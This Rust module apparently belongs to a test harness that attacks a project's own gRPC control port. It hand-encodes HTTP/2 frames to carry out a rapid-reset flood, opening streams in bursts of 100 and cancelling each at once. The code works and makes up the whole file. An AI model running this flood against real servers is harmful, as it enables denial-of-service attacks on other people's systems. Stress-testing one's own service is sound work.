//! The attack on control's gRPC port: HTTP/2 by hand (RFC 9113).

use std::time::Duration;

use super::attack::{Attack, Door, Hand, Next};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Streams in one burst.
const BURST: u32 = 100;
/// Between two bursts of one connection.
const PERIOD: Duration = Duration::from_millis(2);

/// Opens streams and resets each at once.
#[derive(Default)]
pub(super) struct RapidResets {
    out: Vec<u8>,
}

impl Attack for RapidResets {
    fn door(&self, _: u64) -> Door {
        Door::Bare
    }

    fn step(&mut self, hand: &mut Hand<'_>) -> Next {
        self.out.clear();
        if hand.step == 0 {
            self.out.extend_from_slice(PREFACE);
            put(&mut self.out, SETTINGS, 0, 0, &[]);
        }
        let head = head();
        let first = 2 * (hand.step as u32 * BURST) + 1;
        for stream in (first..).step_by(2).take(BURST as usize) {
            put(&mut self.out, HEADERS, END_HEADERS, stream, &head);
            put(&mut self.out, RST_STREAM, 0, stream, &CANCEL);
        }
        hand.say_bare(&self.out);
        if hand.is_full() { Next::Reset } else { Next::Again(PERIOD) }
    }
}

/// Appends a frame.
fn put(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// A call's fields as HPACK literals that no table remembers (RFC 7541, 6.2.2).
fn head() -> Vec<u8> {
    let mut block = Vec::new();
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/gimbal.v1.Messages/Sync"),
        (":authority", "gimbal"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    for (name, value) in fields {
        block.extend([0, name.len() as u8]);
        block.extend(name.bytes());
        block.push(value.len() as u8);
        block.extend(value.bytes());
    }
    block
}
